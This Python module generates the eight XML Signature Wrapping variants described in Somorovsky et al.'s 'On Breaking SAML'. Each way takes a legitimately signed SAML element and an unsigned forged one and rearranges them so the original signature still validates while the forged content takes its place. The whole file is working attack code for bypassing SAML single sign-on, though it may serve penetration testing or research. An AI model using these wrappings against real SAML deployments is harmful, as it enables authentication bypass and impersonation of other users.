"""The eight ways of wrapping: a good signature is kept, and something else is put in its place.

After Somorovsky and others, "On Breaking SAML" (2012). Everything is joined as text, so that what
was signed stays as it was to the byte, and only the place of things changes.
"""

import re

_SIGNATURE = re.compile(r"<ds:Signature .*?</ds:Signature>", re.DOTALL)
AFTER = "</saml2:Issuer>"
WAYS = range(1, 9)


def wrapped(way: int, good: str, evil: str) -> str:
    """A good, signed element and an evil one with another id, put together.

    Takes: the number of the attack; both as text with the same kind of root, the evil one unsigned.
    Gives: what stands in the place of the good one.
    """
    found = _SIGNATURE.search(good)
    if found is None:
        raise ValueError("nothing is signed")
    signature, bare = found[0], good.replace(found[0], "", 1)
    if way in (1, 6):
        # The signature moves into the evil one, and the good one into the signature.
        holding = signature.replace("</ds:Signature>", f"{bare}</ds:Signature>")
        same_id = _with_id_of(good, evil) if way == 6 else evil
        return same_id.replace(AFTER, f"{AFTER}{holding}", 1)
    if way == 2:
        return evil.replace(AFTER, f"{AFTER}{bare}{signature}", 1)
    if way == 3:
        return f"{evil}{good}"
    if way == 4:
        return evil.replace(AFTER, f"{AFTER}{good}", 1)
    if way == 5:
        return f"{evil.replace(AFTER, f'{AFTER}{signature}', 1)}{bare}"
    if way == 7:
        return f"<saml2p:Extensions {_declarations(good)}>{evil}</saml2p:Extensions>{good}"
    holding = signature.replace("</ds:Signature>", f"<ds:Object>{bare}</ds:Object></ds:Signature>")
    return evil.replace(AFTER, f"{AFTER}{holding}", 1)


def _with_id_of(good: str, evil: str) -> str:
    good_id = re.search(r' ID="([^"]+)"', good)
    return re.sub(r' ID="[^"]+"', f' ID="{good_id[1] if good_id else ""}"', evil, count=1)


def _declarations(text: str) -> str:
    head = text.split(">", 1)[0]
    return " ".join(re.findall(r'xmlns:\w+="[^"]+"', head))
